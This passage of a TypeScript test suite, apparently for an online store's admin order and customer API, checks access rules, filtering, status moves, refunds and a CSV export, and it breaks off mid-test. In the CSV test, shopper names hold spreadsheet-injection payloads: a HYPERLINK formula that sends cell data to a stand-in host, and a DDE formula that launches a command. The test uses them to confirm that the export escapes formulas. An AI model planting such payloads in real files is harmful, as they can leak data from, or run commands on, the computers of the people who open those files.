import { asc, eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { adminMoves, orderStatuses } from '@store/shared/order-lifecycle';
import { adminOrderDetail, adminOrderList } from '@store/shared/schemas/merchant';
import { bearer, buildTestApp, type TestApp } from '../../../test/app.ts';
import { CatalogueFactory, smallCatalogue } from '../../../test/factories.ts';
import { namedShopper, orderNumber, type NamedShopper } from '../../../test/orders.ts';
import { ownVariation } from '../../../test/variations.ts';
import { ordersCsv } from './export.ts';
import {
  notifications,
  orderEvents,
  orderReturns,
  orders,
  refunds,
  returnItems,
  users,
} from '../../db/schema/index.ts';

let t: TestApp;
let factory: CatalogueFactory;
let catalogue: Awaited<ReturnType<typeof smallCatalogue>>;
let admin: Record<string, string>;
let adminId: number;

beforeAll(async () => {
  t = await buildTestApp();
  factory = new CatalogueFactory(t.app, await t.adminToken());
  catalogue = await smallCatalogue(factory);
  admin = bearer(await t.adminToken());
  const [row] = await t.database.db.select({ id: users.user_id }).from(users).where(eq(users.role, 'admin'));
  adminId = row!.id;
});
afterAll(() => t.close());

const get = (url: string, headers: Record<string, string> = admin) => t.app.inject({ url, headers });
const post = (url: string, payload: object, headers: Record<string, string> = admin) =>
  t.app.inject({ method: 'POST', url, payload, headers });

/** A paid order of `quantity` units of a variation of its own (₹500 each, size M). */
async function paidOrder(who: NamedShopper, quantity = 1, stock = 10) {
  const own = await ownVariation(t, factory, catalogue.products.oxford.product_id, stock);
  await factory.value(own.id, catalogue.size.attribute_id, 'M');
  const orderId = await orderNumber(t, who, [own.line(quantity)], 500 * quantity);
  return { orderId, variation: own };
}

const orderRow = async (orderId: number) => {
  const [row] = await t.database.db.select().from(orders).where(eq(orders.order_id, orderId));
  return row!;
};
const eventsOf = (orderId: number) =>
  t.database.db.select().from(orderEvents).where(eq(orderEvents.order_id, orderId)).orderBy(asc(orderEvents.event_id));
const outboxOf = (orderId: number) =>
  t.database.db
    .select({ kind: notifications.kind, channel: notifications.channel, recipient: notifications.recipient })
    .from(notifications)
    .where(eq(notifications.order_id, orderId))
    .orderBy(asc(notifications.notification_id));

describe('admin only (docs/product/admin.md#access)', () => {
  it('answers 401 without a token and 403 for a shopper on every admin order and customer route', async () => {
    const shopper = await namedShopper(t, 'Nita', 'Das', 'nita@access.test');
    const { orderId } = await paidOrder(shopper);
    const routes: Array<[string, string, object?]> = [
      ['GET', '/api/admin/orders'],
      ['GET', '/api/admin/orders.csv'],
      ['GET', `/api/admin/orders/${orderId}`],
      ['POST', `/api/admin/orders/${orderId}/status`, { status: 'Packed' }],
      ['POST', `/api/admin/orders/${orderId}/shortfall`, { note: 'found it' }],
      ['GET', '/api/admin/customers'],
      ['GET', `/api/admin/customers/${shopper.userId}`],
    ];
    for (const [method, url, payload] of routes) {
      const anonymous = await t.app.inject({ method: method as 'GET', url, payload });
      expect(anonymous.statusCode, `${method} ${url}`).toBe(401);
      const asShopper = await t.app.inject({ method: method as 'GET', url, payload, headers: shopper.headers });
      expect(asShopper.statusCode, `${method} ${url}`).toBe(403);
    }
    expect((await orderRow(orderId)).status).toBe('Confirmed');
  });
});

describe('the order table (docs/product/admin.md#orders)', () => {
  let meera: NamedShopper;
  let vikram: NamedShopper;
  const ids = { meeraPaid: 0, meeraUnpaid: 0, vikramPacked: 0, vikramShortfall: 0 };

  beforeAll(async () => {
    meera = await namedShopper(t, 'Meera', 'Iyer', 'meera@filters.test');
    vikram = await namedShopper(t, 'Vikram', 'Shah', 'vikram@filters.test');
    ids.meeraPaid = (await paidOrder(meera, 1)).orderId; // ₹500, Confirmed
    ids.meeraUnpaid = await orderNumber(
      t,
      meera,
      [(await ownVariation(t, factory, catalogue.products.oxford.product_id, 5)).line(3)],
      1500,
      { pay: false },
    ); // ₹1500, New
    ids.vikramPacked = (await paidOrder(vikram, 2)).orderId; // ₹1000
    ids.vikramShortfall = (await paidOrder(vikram, 4)).orderId; // ₹2000
    await t.database.db.update(orders).set({ status: 'Packed' }).where(eq(orders.order_id, ids.vikramPacked));
    await t.database.db.update(orders).set({ stock_shortfall: true }).where(eq(orders.order_id, ids.vikramShortfall));
    await t.database.db.update(users).set({ phone: '9123400077' }).where(eq(users.user_id, vikram.userId));
    // Around midnight in Asia/Kolkata (UTC+05:30): 23:59 on 1 November, 00:00 and 23:59 on 2 November, 3 November.
    const at = (orderId: number, instant: string) =>
      t.database.db.update(orders).set({ order_date: instant }).where(eq(orders.order_id, orderId));
    await at(ids.meeraPaid, '2026-11-01T18:29:00Z');
    await at(ids.vikramPacked, '2026-11-01T18:30:00Z');
    await at(ids.vikramShortfall, '2026-11-02T18:29:59Z');
    await at(ids.meeraUnpaid, '2026-11-02T18:30:00Z');
  });

  const list = async (query: string) => {
    const response = await get(`/api/admin/orders?q=@filters.test&${query}`);
    expect(response.statusCode, response.body).toBe(200);
    return adminOrderList.parse(response.json());
  };
  const numbers = (page: { items: Array<{ order_id: number }> }) => page.items.map((item) => item.order_id);

  it('lists every order, newest first, with its customer, items, totals and counts per status', async () => {
    const page = await list('');
    expect(numbers(page)).toEqual([ids.meeraUnpaid, ids.vikramShortfall, ids.vikramPacked, ids.meeraPaid]);
    expect(page.totalCount).toBe(4);
    expect(page.counts).toEqual({
      all: 4,
      needs_attention: 1,
      New: 1,
      Confirmed: 2,
      Packed: 1,
      Shipped: 0,
      Delivered: 0,
      Expired: 0,
      Cancelled: 0,
      ReturnedToOrigin: 0,
    });
    const shortfall = page.items.find((item) => item.order_id === ids.vikramShortfall)!;
    expect(shortfall).toMatchObject({
      status: 'Confirmed',
      payment_status: 'Paid',
      total_amount: 2000,
      refunded_amount: 0,
      items: 4,
      needs_attention: true,
      open_returns: 0,
      customer: { user_id: vikram.userId, name: 'Vikram Shah', email: 'vikram@filters.test', phone: '9123400077' },
    });
    expect(page.items.find((item) => item.order_id === ids.meeraUnpaid)).toMatchObject({
      status: 'New',
      payment_status: 'Unpaid',
      items: 3,
      needs_attention: false,
    });
  });

  it('filters by status, and the counts stay those of every status', async () => {
    const page = await list('status=Confirmed');
    expect(numbers(page)).toEqual([ids.vikramShortfall, ids.meeraPaid]);
    expect(page.totalCount).toBe(2);
    expect(page.counts).toMatchObject({ all: 4, New: 1, Confirmed: 2, Packed: 1 });
    expect((await get('/api/admin/orders?status=Lost')).statusCode).toBe(400);
  });

  it('finds an order by its number: "#123" only that order, plain digits that order or phones containing them', async () => {
    const hashed = await get(`/api/admin/orders?q=%23${ids.vikramPacked}`);
    expect(hashed.statusCode).toBe(200);
    expect(numbers(hashed.json())).toEqual([ids.vikramPacked]);
    expect(numbers((await get(`/api/admin/orders?q=${ids.vikramPacked}`)).json())).toContain(ids.vikramPacked);
    expect(numbers((await get('/api/admin/orders?q=%2399999999999')).json())).toEqual([]);
  });

  it('finds orders by part of the email, the phone and the name, whatever the case', async () => {
    const find = async (q: string) =>
      numbers(adminOrderList.parse((await get(`/api/admin/orders?q=${encodeURIComponent(q)}`)).json())).sort();
    const vikrams = [ids.vikramPacked, ids.vikramShortfall].sort();
    const meeras = [ids.meeraPaid, ids.meeraUnpaid].sort();
    expect(await find('VIKRAM@filters')).toEqual(vikrams);
    expect(await find('23400077')).toEqual(vikrams);
    expect(await find('vikram sh')).toEqual(vikrams);
    expect(await find('IYER')).toEqual(meeras);
    expect(await find('eer')).toEqual(meeras);
    // LIKE wildcards are taken literally.
    expect(await find('%@filters.test')).toEqual([]);
  });

  it('keeps the days from and to, inclusive, in Asia/Kolkata time', async () => {
    expect(numbers(await list('from=2026-11-01&to=2026-11-01'))).toEqual([ids.meeraPaid]);
    expect(numbers(await list('from=2026-11-02&to=2026-11-02'))).toEqual([ids.vikramShortfall, ids.vikramPacked]);
    expect(numbers(await list('from=2026-11-03'))).toEqual([ids.meeraUnpaid]);
    expect(numbers(await list('to=2026-11-02'))).toEqual([ids.vikramShortfall, ids.vikramPacked, ids.meeraPaid]);
    const days = await list('from=2026-11-02&to=2026-11-02');
    expect(days.counts).toMatchObject({ all: 2, Confirmed: 1, Packed: 1, New: 0 });
    const bad = await get('/api/admin/orders?from=2026-02-30');
    expect(bad.statusCode).toBe(400);
    expect(bad.json().message).toBe('from: 2026-02-30 is not a date.');
    expect((await get('/api/admin/orders?to=yesterday')).statusCode).toBe(400);
  });

  it('keeps the orders that need attention (an unresolved stock shortfall)', async () => {
    const page = await list('needs_attention=1');
    expect(numbers(page)).toEqual([ids.vikramShortfall]);
    expect(page.counts).toMatchObject({ all: 1, needs_attention: 1, Confirmed: 1 });
  });

  it('sorts by date or total, and pages', async () => {
    expect(numbers(await list('sort=date_asc'))).toEqual([
      ids.meeraPaid,
      ids.vikramPacked,
      ids.vikramShortfall,
      ids.meeraUnpaid,
    ]);
    expect(numbers(await list('sort=total_desc'))).toEqual([
      ids.vikramShortfall,
      ids.meeraUnpaid,
      ids.vikramPacked,
      ids.meeraPaid,
    ]);
    expect(numbers(await list('sort=total_asc'))).toEqual([
      ids.meeraPaid,
      ids.vikramPacked,
      ids.meeraUnpaid,
      ids.vikramShortfall,
    ]);
    const second = await list('sort=total_asc&pageSize=3&pageNumber=2');
    expect(numbers(second)).toEqual([ids.vikramShortfall]);
    expect(second.totalCount).toBe(4);
    expect((await get('/api/admin/orders?sort=price')).statusCode).toBe(400);
  });

  it('closes a shortfall once, with the note in the history; 409 when there is none open', async () => {
    const response = await post(`/api/admin/orders/${ids.vikramShortfall}/shortfall`, {
      note: 'Found 4 in the back room',
    });
    expect(response.statusCode, response.body).toBe(200);
    expect(response.json()).toMatchObject({ needs_attention: false, stock_shortfall: true });
    const row = await orderRow(ids.vikramShortfall);
    expect(row.shortfall_resolved_at).not.toBeNull();
    const notes = (await eventsOf(ids.vikramShortfall)).filter((event) => event.kind === 'note');
    expect(notes).toEqual([
      expect.objectContaining({
        note: 'Stock shortfall resolved: Found 4 in the back room',
        actor_role: 'admin',
        actor_user_id: adminId,
      }),
    ]);
    expect(numbers(await list('needs_attention=1'))).toEqual([]);

    const again = await post(`/api/admin/orders/${ids.vikramShortfall}/shortfall`, { note: 'again' });
    expect(again.statusCode).toBe(409);
    expect(again.json().message).toBe(`Order #${ids.vikramShortfall} has no stock shortfall to resolve.`);
    expect((await post(`/api/admin/orders/${ids.meeraPaid}/shortfall`, { note: 'x' })).statusCode).toBe(409);
    expect((await post(`/api/admin/orders/${ids.meeraPaid}/shortfall`, { note: ' ' })).statusCode).toBe(400);
    expect((await post('/api/admin/orders/999999/shortfall', { note: 'x' })).statusCode).toBe(404);
    expect((await eventsOf(ids.vikramShortfall)).filter((event) => event.kind === 'note')).toHaveLength(1);
  });
});

describe("an order's page (docs/product/admin.md#orders)", () => {
  it('shows lines with units returned, customer, payments, refunds, returns, history, messages and moves', async () => {
    const kavya = await namedShopper(t, 'Kavya', 'Menon', 'kavya@detail.test');
    const { orderId, variation } = await paidOrder(kavya, 3);
    const exchangeTo = await ownVariation(t, factory, catalogue.products.oxford.product_id, 5);
    await factory.value(exchangeTo.id, catalogue.size.attribute_id, 'L');
    const [line] = await t.database.db
      .execute(sql`SELECT order_item_id FROM order_items WHERE order_id = ${orderId}`)
      .then((result) => (result as unknown as { rows: Array<{ order_item_id: number }> }).rows);
    // Two returns of the line (one rejected, which does not count) and a refund being processed.
    const [accepted] = await t.database.db
      .insert(orderReturns)
      .values({
        order_id: orderId,
        user_id: kavya.userId,
        kind: 'exchange',
        status: 'Accepted',
        reason: 'Too small',
        exchange_variation_id: exchangeTo.id,
        refund_destination: { upi_id: 'kavya@okbank' },
      })
      .returning();
    const [rejected] = await t.database.db
      .insert(orderReturns)
      .values({ order_id: orderId, user_id: kavya.userId, kind: 'return', status: 'Rejected', reason: 'Changed mind' })
      .returning();
    await t.database.db.insert(returnItems).values([
      { return_id: accepted!.return_id, order_item_id: line!.order_item_id, quantity: 1 },
      { return_id: rejected!.return_id, order_item_id: line!.order_item_id, quantity: 2 },
    ]);
    await t.database.db.insert(refunds).values({
      order_id: orderId,
      amount: 20000,
      reason: 'Goodwill',
      status: 'Pending',
      method: 'sandbox',
      idempotency_key: `test-${orderId}`,
    });
    await t.database.db.update(orders).set({ refunded_amount: 10000 }).where(eq(orders.order_id, orderId));

    const response = await get(`/api/admin/orders/${orderId}`);
    expect(response.statusCode, response.body).toBe(200);
    const detail = adminOrderDetail.parse(response.json());
    expect(detail).toMatchObject({
      order_id: orderId,
      status: 'Confirmed',
      payment_status: 'Paid',
      total_amount: 1500,
      refunded_amount: 100,
      // ₹1500 paid − ₹100 refunded − ₹200 pending.
      refundable_amount: 1200,
      needs_attention: false,
      customer: { user_id: kavya.userId, name: 'Kavya Menon', email: 'kavya@detail.test' },
      shipping_address: expect.objectContaining({ city: 'Bengaluru', postal_code: '560001' }),
      allowed_moves: ['Packed', 'Cancelled'],
    });
    expect(detail.lines).toEqual([
      expect.objectContaining({
        order_item_id: line!.order_item_id,
        productvariation_id: variation.id,
        productName: 'Oxford Casual Shirt',
        brand_name: 'Denim Republic',
        quantity: 3,
        price: 500,
        attributes: [{ attribute_name: 'size', value: 'M' }],
        returned_quantity: 1,
      }),
    ]);
    expect(detail.payments).toEqual([
      expect.objectContaining({ payment_amount: 1500, payment_method: 'RazorPay', status: 'Verified' }),
    ]);
    expect(detail.refunds).toEqual([expect.objectContaining({ amount: 200, status: 'Pending', reason: 'Goodwill' })]);
    expect(detail.returns).toEqual([
      expect.objectContaining({
        return_id: accepted!.return_id,
        kind: 'exchange',
        status: 'Accepted',
        items: [{ order_item_id: line!.order_item_id, quantity: 1 }],
        exchange: { productvariation_id: exchangeTo.id, attributes: [{ attribute_name: 'size', value: 'L' }] },
        refund_destination: { upi_id: 'kavya@okbank' },
      }),
      expect.objectContaining({ return_id: rejected!.return_id, status: 'Rejected', exchange: null }),
    ]);
    expect(detail.history).toEqual([
      expect.objectContaining({ kind: 'status', from_status: 'New', to_status: 'Confirmed', actor: 'system' }),
    ]);
    expect(detail.notifications).toEqual([
      expect.objectContaining({
        kind: 'order_placed',
        channel: 'email',
        recipient: 'kavya@detail.test',
        subject: `Store: Order #${detail.order_id} confirmed`,
        // The outbox worker of the test app may already have sent it.
        status: expect.stringMatching(/^(Pending|Sent)$/),
      }),
    ]);

    expect((await get('/api/admin/orders/999999')).statusCode).toBe(404);
    expect((await get('/api/admin/orders/abc')).statusCode).toBe(400);
  });

  it('refunds nothing of an unpaid order', async () => {
    const dev = await namedShopper(t, 'Dev', 'Kapoor', 'dev@detail.test');
    const own = await ownVariation(t, factory, catalogue.products.oxford.product_id, 5);
    const orderId = await orderNumber(t, dev, [own.line(1)], 500, { pay: false });
    const detail = (await get(`/api/admin/orders/${orderId}`)).json();
    expect(detail).toMatchObject({
      status: 'New',
      payment_status: 'Unpaid',
      refundable_amount: 0,
      allowed_moves: ['Cancelled'],
    });
  });
});

describe('status moves (docs/product/orders.md#lifecycle)', () => {
  let who: NamedShopper;
  beforeAll(async () => {
    who = await namedShopper(t, 'Ravi', 'Kumar', 'ravi@moves.test');
  });

  it('makes every move the state machine allows the admin and refuses every other, from each status', async () => {
    const { orderId } = await paidOrder(who, 1, 100);
    for (const from of orderStatuses) {
      for (const to of orderStatuses) {
        await t.database.db.update(orders).set({ status: from }).where(eq(orders.order_id, orderId));
        const before = (await eventsOf(orderId)).length;
        const response = await post(`/api/admin/orders/${orderId}/status`, {
          status: to,
          carrier: 'Delhivery',
          tracking_number: 'DL123',
          note: `${from} to ${to}`,
        });
        const events = await eventsOf(orderId);
        const row = await orderRow(orderId);
        if (to === 'ReturnedToOrigin' && adminMoves(from).includes(to)) {
          // A return to origin needs its reason, sent to its own route (returned-to-origin.test.ts): nothing moves.
          expect(response.statusCode, `${from} → ${to}`).toBe(400);
          expect(response.json().errors).toEqual({ reason: 'Required' });
          expect(row.status).toBe(from);
          expect(events).toHaveLength(before);
        } else if (adminMoves(from).includes(to)) {
          expect(response.statusCode, `${from} → ${to}: ${response.body}`).toBe(200);
          expect(response.json()).toMatchObject({ status: to, allowed_moves: adminMoves(to) });
          expect(row.status).toBe(to);
          // Cancelling a paid order also records its refund (docs/product/orders.md#refunds), after the move.
          const refunded = to === 'Cancelled' && row.refunded_amount > 0 && events.at(-1)?.kind === 'refund';
          expect(events).toHaveLength(before + (refunded ? 2 : 1));
          expect(events.at(refunded ? -2 : -1)).toMatchObject({
            kind: 'status',
            from_status: from,
            to_status: to,
            note: `${from} to ${to}`,
            actor_role: 'admin',
            actor_user_id: adminId,
          });
        } else {
          expect(response.statusCode, `${from} → ${to}`).toBe(409);
          expect(response.json()).toMatchObject({
            code: 'ORDER_TRANSITION_REFUSED',
            details: { status: from, allowed: adminMoves(from) },
          });
          expect(response.json().message).toMatch(new RegExp(`^Order #${orderId} is `));
          expect(row.status).toBe(from);
          expect(events).toHaveLength(before);
        }
      }
    }
  });

  it('refuses Shipped without the carrier and tracking number with 400 and field errors, changing nothing', async () => {
    const { orderId } = await paidOrder(who);
    await t.database.db.update(orders).set({ status: 'Packed' }).where(eq(orders.order_id, orderId));
    const before = (await eventsOf(orderId)).length;
    const response = await post(`/api/admin/orders/${orderId}/status`, { status: 'Shipped', carrier: 'Delhivery' });
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({
      message: 'A shipped order needs the carrier and the tracking number.',
      errors: { tracking_number: 'Required' },
    });
    const row = await orderRow(orderId);
    expect(row).toMatchObject({ status: 'Packed', carrier: null, tracking_number: null, shipped_at: null });
    expect(await eventsOf(orderId)).toHaveLength(before);
  });

  it('packs, ships and delivers: times stamped, tracking kept, history written and the messages queued', async () => {
    const { orderId } = await paidOrder(who);
    await t.database.db.update(users).set({ phone: '9123400099' }).where(eq(users.user_id, who.userId));
    const move = (body: object) => post(`/api/admin/orders/${orderId}/status`, body);
    expect((await move({ status: 'Packed' })).statusCode).toBe(200);
    expect((await orderRow(orderId)).packed_at).not.toBeNull();
    const shipped = await move({ status: 'Shipped', carrier: ' Blue Dart ', tracking_number: 'BD-77' });
    expect(shipped.statusCode, shipped.body).toBe(200);
    expect(shipped.json()).toMatchObject({ status: 'Shipped', carrier: 'Blue Dart', tracking_number: 'BD-77' });
    const delivered = await move({ status: 'Delivered' });
    expect(delivered.statusCode).toBe(200);
    const row = await orderRow(orderId);
    expect(row).toMatchObject({ status: 'Delivered', carrier: 'Blue Dart', tracking_number: 'BD-77' });
    expect(row.shipped_at).not.toBeNull();
    expect(row.delivered_at).not.toBeNull();
    expect(delivered.json().allowed_moves).toEqual([]);
    expect(
      delivered
        .json()
        .history.map((event: { from_status: string; to_status: string }) => `${event.from_status}→${event.to_status}`),
    ).toEqual(['New→Confirmed', 'Confirmed→Packed', 'Packed→Shipped', 'Shipped→Delivered']);
    expect(await outboxOf(orderId)).toEqual([
      { kind: 'order_placed', channel: 'email', recipient: 'ravi@moves.test' },
      { kind: 'order_shipped', channel: 'email', recipient: 'ravi@moves.test' },
      { kind: 'order_shipped', channel: 'sms', recipient: '9123400099' },
      { kind: 'order_delivered', channel: 'email', recipient: 'ravi@moves.test' },
      { kind: 'order_delivered', channel: 'sms', recipient: '9123400099' },
    ]);
    await t.database.db.update(users).set({ phone: null }).where(eq(users.user_id, who.userId));
  });

  it('gives the stock back and the money when the admin cancels a paid order, and tells the shopper', async () => {
    const { orderId, variation } = await paidOrder(who, 2, 5);
    expect(await variation.stock()).toBe(3);
    const response = await post(`/api/admin/orders/${orderId}/status`, { status: 'Cancelled', note: 'Out of stock' });
    expect(response.statusCode, response.body).toBe(200);
    expect(await variation.stock()).toBe(5);
    const row = await orderRow(orderId);
    expect(row.status).toBe('Cancelled');
    expect(row.cancelled_at).not.toBeNull();
    // The whole payment went back through the sandbox after the cancel (docs/product/orders.md#refunds).
    expect(row.payment_status).toBe('Refunded');
    expect(row.refunded_amount).toBe(row.total_amount);
    expect(response.json().refunds).toEqual([
      expect.objectContaining({
        amount: row.total_amount / 100,
        status: 'Processed',
        reason: 'Order cancelled by the store',
      }),
    ]);
    expect((await outboxOf(orderId)).map((row) => row.kind)).toEqual([
      'order_placed',
      'order_cancelled',
      'refund_processed',
    ]);
    const again = await post(`/api/admin/orders/${orderId}/status`, { status: 'Cancelled' });
    expect(again.statusCode).toBe(409);
    expect(again.json().message).toBe(`Order #${orderId} is already cancelled.`);
    expect(await variation.stock()).toBe(5);
  });

  it('cancels an unpaid order, gives its stock back, and sends nothing', async () => {
    const own = await ownVariation(t, factory, catalogue.products.oxford.product_id, 5);
    const orderId = await orderNumber(t, who, [own.line(2)], 1000, { pay: false });
    expect(await own.stock()).toBe(3);
    const response = await post(`/api/admin/orders/${orderId}/status`, { status: 'Cancelled' });
    expect(response.statusCode).toBe(200);
    expect(await own.stock()).toBe(5);
    expect((await orderRow(orderId)).status).toBe('Cancelled');
    expect(await outboxOf(orderId)).toEqual([]);
  });

  it('answers 404 for an unknown order and 400 for an unknown status', async () => {
    expect((await post('/api/admin/orders/999999/status', { status: 'Packed' })).statusCode).toBe(404);
    const { orderId } = await paidOrder(who);
    expect((await post(`/api/admin/orders/${orderId}/status`, { status: 'Lost' })).statusCode).toBe(400);
    expect((await orderRow(orderId)).status).toBe('Confirmed');
  });
});

describe('the CSV (docs/product/admin.md#orders)', () => {
  it('exports the filtered orders with every column, escaping quotes and spreadsheet formulas', async () => {
    const mallory = await namedShopper(t, 'Mallory', 'Evil', 'mallory@csv.test');
    await t.database.db
      .update(users)
      .set({ first_name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', last_name: null, phone: '+919812345678' })
      .where(eq(users.user_id, mallory.userId));
    const { orderId } = await paidOrder(mallory, 2);
    await t.database.db
      .update(orders)
      .set({
        status: 'Shipped',
        carrier: 'Delhivery, Express',
        tracking_number: '\uFF1DDL1',
        order_date: '2026-11-20T20:00:00Z',
      })
      .where(eq(orders.order_id, orderId));
    const other = await namedShopper(t, 'Plain', 'Person', 'plain@csv.test');
    // A name hiding a formula behind ";" (a separator in some spreadsheets' settings) goes out quoted.
    await t.database.db.update(users).set({ first_name: ";=cmd|' /C calc'!A0" }).where(eq(users.user_id, other.userId));
    const { orderId: plainId } = await paidOrder(other, 1);

    const response = await get('/api/admin/orders.csv?q=csv.test&sort=date_asc');
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="orders-\d{4}-\d{2}-\d{2}\.csv"$/);
    const lines = response.body.split('\r\n');
    expect(lines.at(-1)).toBe('');
    expect(lines[0]).toBe(
      '\uFEFF"Order","Date","Status","Payment","Customer","Email","Phone","Items","Total (INR)","Refunded (INR)","City","State","PIN","Carrier","Tracking"',
    );
    expect(lines).toHaveLength(4);
    // 20:00 UTC on 20 November is 01:30 on 21 November in India.
    expect(lines[1]).toBe(
      `${orderId},"2026-11-21 01:30","Shipped","Paid","'=HYPERLINK(""http://evil.example/?""&A1,""Click"")","mallory@csv.test","'+919812345678",2,1000,0,"Bengaluru","Karnataka","560001","Delhivery, Express","'\uFF1DDL1"`,
    );
    expect(lines[2]).toMatch(
      new RegExp(
        `^${plainId},"\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2}","Confirmed","Paid",";=cmd\\|' /C calc'!A0 Person","plain@csv.test",`,
      ),
    );

    const shipped = await get('/api/admin/orders.csv?q=csv.test&status=Shipped');
    expect(shipped.body.split('\r\n')).toHaveLength(3);
    const bad = await get('/api/admin/orders.csv?from=2026-13-01');
    expect(bad.statusCode).toBe(400);
    expect(bad.headers['content-type']).toMatch(/application\/json/);
  });
});

describe('the CSV in chunks (docs/product/admin.md#orders)', () => {
  it('reads the orders a chunk at a time, in order, and stops at the cap', async () => {
    const who = await namedShopper(t, 'Chunk', 'Reader', 'chunk@csvcap.test');
    const made: number[] = [];
    for (let n = 0; n < 5; n++) made.push((await paidOrder(who)).orderId);
    const read = async (options: { maxRows: number; chunk: number }) => {
      const parts: string[] = [];
      for await (const part of ordersCsv(t.database.db, { q: 'csvcap.test' }, 'date_asc', options)) parts.push(part);
      return parts
        .join('')
        .split('\r\n')
        .slice(1, -1)
        .map((line) => Number(line.split(',')[0]));
    };
    expect(await read({ maxRows: 100, chunk: 2 })).toEqual(made);
    expect(await read({ maxRows: 3, chunk: 2 })).toEqual(made.slice(0, 3));
    expect(await read({ maxRows: 4, chunk: 2 })).toEqual(made.slice(0, 4));
  });
});

describe('customers (docs/product/admin.md#customers)', () => {
  it('lists shoppers only, newest first, with their orders and spending; q matches name, email and phone', async () => {
    const anil = await namedShopper(t, 'Anil', 'Bose', 'anil@customers.test');
    const { orderId } = await paidOrder(anil, 2);
    await t.database.db.update(orders).set({ refunded_amount: 30000 }).where(eq(orders.order_id, orderId));
    const own = await ownVariation(t, factory, catalogue.products.oxford.product_id, 5);
    await orderNumber(t, anil, [own.line(1)], 500, { pay: false });
    await t.database.db.update(users).set({ phone: '9555500011' }).where(eq(users.user_id, anil.userId));
    const sunita = await namedShopper(t, 'Sunita', 'Bose', 'sunita@customers.test');

    const all = await get('/api/admin/customers');
    expect(all.statusCode, all.body).toBe(200);
    const emails = all.json().items.map((row: { email: string }) => row.email);
    expect(emails).not.toContain('admin@test.local');
    expect(emails.slice(0, 2)).toEqual(['sunita@customers.test', 'anil@customers.test']);
    expect(all.json().items.length).toBeLessThanOrEqual(20);

    const byName = await get('/api/admin/customers?q=bose');
    expect(byName.json().totalCount).toBe(2);
    expect(byName.json().items[1]).toMatchObject({
      user_id: anil.userId,
      name: 'Anil Bose',
      email: 'anil@customers.test',
      phone: '9555500011',
      email_verified: true,
      // The unpaid order does not count; ₹1000 paid less ₹300 refunded.
      orders: 1,
      spent: 700,
    });
    expect(byName.json().items[1].last_order_at).not.toBeNull();
    expect(byName.json().items[0]).toMatchObject({ user_id: sunita.userId, orders: 0, spent: 0, last_order_at: null });
    expect((await get('/api/admin/customers?q=ANIL@CUSTOMERS')).json().items).toHaveLength(1);
    expect(
      (await get('/api/admin/customers?q=55500011')).json().items.map((row: { user_id: number }) => row.user_id),
    ).toEqual([anil.userId]);
    expect((await get('/api/admin/customers?q=admin@test.local')).json()).toEqual({ items: [], totalCount: 0 });
    expect((await get('/api/admin/customers?q=bose&pageNumber=2')).json()).toEqual({ items: [], totalCount: 2 });
    expect((await get('/api/admin/customers?pageNumber=0')).statusCode).toBe(400);
  });

  it("shows one customer's addresses and recent orders; 404 for the admin and unknown ids", async () => {
    const lata = await namedShopper(t, 'Lata', 'Pillai', 'lata@customers.test');
    const first = (await paidOrder(lata)).orderId;
    const second = (await paidOrder(lata)).orderId;
    const response = await get(`/api/admin/customers/${lata.userId}`);
    expect(response.statusCode, response.body).toBe(200);
    const detail = response.json();
    expect(detail).toMatchObject({ user_id: lata.userId, name: 'Lata Pillai', orders: 2, spent: 1000 });
    expect(detail.addresses).toEqual([expect.objectContaining({ city: 'Bengaluru', is_default: true })]);
    expect(detail.recent_orders.map((row: { order_id: number }) => row.order_id)).toEqual([second, first]);
    expect(detail.recent_orders[0]).toMatchObject({ status: 'Confirmed', total_amount: 500, items: 1 });
    expect((await get(`/api/admin/customers/${adminId}`)).statusCode).toBe(404);
    expect((await get('/api/admin/customers/999999')).statusCode).toBe(404);
  });
});

describe("the shopper's orders with their progress (docs/product/orders.md#lifecycle)", () => {
  it('lists paid orders (also cancelled after payment) with payment status, tracking, history, refunds and returns', async () => {
    const neha = await namedShopper(t, 'Neha', 'Joshi', 'neha@progress.test');
    const delivered = (await paidOrder(neha)).orderId;
    const cancelled = (await paidOrder(neha)).orderId;
    const own = await ownVariation(t, factory, catalogue.products.oxford.product_id, 5);
    const expired = await orderNumber(t, neha, [own.line(1)], 500, { pay: false });
    await t.database.db.update(orders).set({ status: 'Expired' }).where(eq(orders.order_id, expired));
    const move = (orderId: number, body: object) => post(`/api/admin/orders/${orderId}/status`, body);
    await move(delivered, { status: 'Packed', note: 'Internal: fragile' });
    await move(delivered, { status: 'Shipped', carrier: 'Delhivery', tracking_number: 'DL9' });
    await move(delivered, { status: 'Delivered' });
    await move(cancelled, { status: 'Cancelled' });
    await t.database.db
      .insert(orderEvents)
      .values({ order_id: delivered, kind: 'note', note: 'Customer was rude', actor_role: 'admin' });

    const response = await get('/api/Order/neha@progress.test', neha.headers);
    expect(response.statusCode, response.body).toBe(200);
    const list = response.json();
    expect(list.map((order: { order_id: number }) => order.order_id)).toEqual([cancelled, delivered]);
    const [refunded, done] = list;
    expect(refunded).toMatchObject({
      status: 'Cancelled',
      payment_status: 'Refunded',
      refunded_amount: 500,
      refunds: [expect.objectContaining({ amount: 500, status: 'Processed', reason: 'Order cancelled by the store' })],
      returns: [],
      delivered_at: null,
      return_until: null,
    });
    expect(done).toMatchObject({
      status: 'Delivered',
      payment_status: 'Paid',
      carrier: 'Delhivery',
      tracking_number: 'DL9',
    });
    const deliveredAt = new Date((await orderRow(delivered)).delivered_at!).getTime();
    expect(new Date(done.delivered_at).getTime()).toBe(deliveredAt);
    expect(new Date(done.return_until).getTime()).toBe(deliveredAt + 14 * 24 * 60 * 60 * 1000);
    // The admin's notes stay with the admin.
    expect(done.history).toEqual([
      expect.objectContaining({ to_status: 'Confirmed', actor: 'system', note: 'Payment received' }),
      expect.objectContaining({ to_status: 'Packed', actor: 'admin', note: null }),
      expect.objectContaining({ to_status: 'Shipped', actor: 'admin' }),
      expect.objectContaining({ to_status: 'Delivered', actor: 'admin' }),
    ]);
    expect(JSON.stringify(list)).not.toMatch(/rude|fragile/);
  });

  it('answers one order with its progress to its owner and the admin, 404 to anyone else', async () => {
    const owner = await namedShopper(t, 'Owen', 'Roy', 'owen@progress.test');
    const stranger = await namedShopper(t, 'Sara', 'Ali', 'sara@progress.test');
    const own = await ownVariation(t, factory, catalogue.products.oxford.product_id, 5);
